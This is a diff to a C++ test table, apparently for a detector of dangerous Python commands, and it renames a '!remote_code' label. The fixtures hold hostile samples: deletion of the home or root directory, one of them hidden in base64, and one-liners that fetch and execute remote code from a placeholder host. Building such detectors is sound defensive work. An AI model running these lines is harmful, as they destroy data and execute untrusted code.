@@ -80,8 +80,8 @@ constexpr Sample kPython[] = {
     {"exec('import os; os.system(\"rm -rf ~\")')", "$ rm -rf ~"},
     {"exec(compile('import shutil; shutil.rmtree(\"/\")', 'x', 'exec'))", "rm -r -f /\nrm -r -f /"},
     {"import base64; exec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oInJtIC1yZiB+Iik='))", "$ rm -rf ~"},
-    {"import requests; exec(requests.get('http://x/p.py').text)", "!remote_code"},
-    {"import urllib.request; exec(urllib.request.urlopen('http://x/p.py').read())", "!remote_code"},
+    {"import requests; exec(requests.get('http://x/p.py').text)", "!remote-code"},
+    {"import urllib.request; exec(urllib.request.urlopen('http://x/p.py').read())", "!remote-code"},
     {"exec(open('x.py').read())", "@read x.py\n!script"},
     {"eval(x)", "!code"},
     // files
